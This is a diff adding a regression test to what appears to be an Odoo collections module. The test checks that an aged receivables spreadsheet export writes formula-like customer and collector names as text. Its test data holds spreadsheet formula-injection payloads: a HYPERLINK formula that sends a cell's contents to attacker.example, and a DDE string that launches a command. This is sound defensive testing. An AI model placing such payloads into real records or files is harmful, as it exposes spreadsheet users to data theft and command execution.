@@ -697,3 +697,44 @@ class TestCollectionDocumentsHttp(CollectionCommon, HttpCase):
         self.assertEqual(response.status_code, 403)
         response = self.url_open("/account_collection/aged_receivables/999999/xlsx")
         self.assertEqual(response.status_code, 404)
+
+    def test_aged_receivables_download_writes_names_as_text(self):
+        """A customer, a collector or a document named like a formula (=, +, -, @) or a
+        link is written as text: the manager's spreadsheet computes nothing of it."""
+        names = {
+            "customer": '=HYPERLINK("http://attacker.example/?d="&A1,"Open")',
+            "collector": "+cmd|' /C calc'!A0",
+        }
+        self.customer.name = names["customer"]
+        self.collector.name = names["collector"]
+        self.other_customer.name = "-2+3"
+        self.other_customer.with_company(self.company).collection_user_id = self.collector
+        self.third = self.env["res.partner"].create(
+            {"name": "http://attacker.example/", "is_company": True}
+        )
+        self.third.with_company(self.company).collection_user_id = self.collector
+        self.invoice(self.third, 50.0, fields.Date.context_today(self.third) - timedelta(days=3))
+        export = (
+            self.env["collection.aged.receivable.export"]
+            .with_user(self.collector)
+            .create({"domain": "[]"})
+        )
+        self.authenticate(self.collector.login, self.collector.login)
+        response = self.url_open(export.with_user(self.collector).action_export_xlsx()["url"])
+        self.assertEqual(response.status_code, 200)
+        book = openpyxl.load_workbook(io.BytesIO(response.content))
+        summary, items = book.worksheets
+        cells = [
+            cell
+            for sheet, column in ((summary, "A"), (summary, "B"), (items, "A"))
+            for cell in sheet[column]
+            if isinstance(cell.value, str) and cell.value[:1] in "=+-@h"
+        ]
+        self.assertEqual(
+            sorted({cell.value for cell in cells}),
+            sorted([names["customer"], names["collector"], "-2+3", "http://attacker.example/"]),
+        )
+        for cell in cells:
+            with self.subTest(cell.coordinate):
+                self.assertEqual(cell.data_type, "s", f"{cell.value!r} is written as text")
+                self.assertIsNone(cell.hyperlink)
